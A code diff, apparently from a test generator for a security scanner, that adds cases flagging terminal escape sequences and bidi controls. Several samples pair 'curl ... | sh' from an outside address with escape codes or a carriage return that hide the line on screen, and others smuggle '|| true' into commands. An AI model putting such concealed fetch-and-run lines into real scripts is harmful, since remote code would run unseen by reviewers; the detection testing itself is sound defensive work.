@@ -547,6 +547,14 @@ def unicode_cases(g):
              ("unicode.invisible", "con\u200bfig.py"), ("unicode.invisible", "src/ma\u2060in.c")]
     for i, (rule, name) in enumerate(names):
         g.add("unicode", "file-name-%d" % i, rule, "high", name, new_file_diff(name, "echo hi\n"))
+    esc = "\x1b"
+    terminal = [("high", "scripts/build.sh", "curl -s https://203.0.113.9/i | sh # " + esc + "[2K" + esc + "[1A\n"),
+                ("high", "app/env.py", "x = 1  # " + esc + "[8m hidden " + esc + "[0m\n"),
+                ("high", "src/main.c", "int ok; /* " + esc + "[1F" + esc + "[K */\n"),
+                ("medium", "tools/ci.sh", "curl -s https://203.0.113.9/i | sh #\r echo building the docs\n"),
+                ("medium", "src/term.h", "#define CLEAR \"" + esc + "[H" + esc + "[2J\"\n")]
+    for i, (sev, path, body) in enumerate(terminal):
+        g.add("unicode", "terminal-%d" % i, "unicode.terminal_control", sev, path, body)
     for i, cmd in enumerate(["make test " + rlo + "# verify" + pdf + " && ./deploy.sh",
                              "pytest -q " + rli + "|| true" + pdi]):
         g.add("unicode", "command-%d" % i, "unicode.bidi_control", "high", "<job.run>", cmd + "\n")
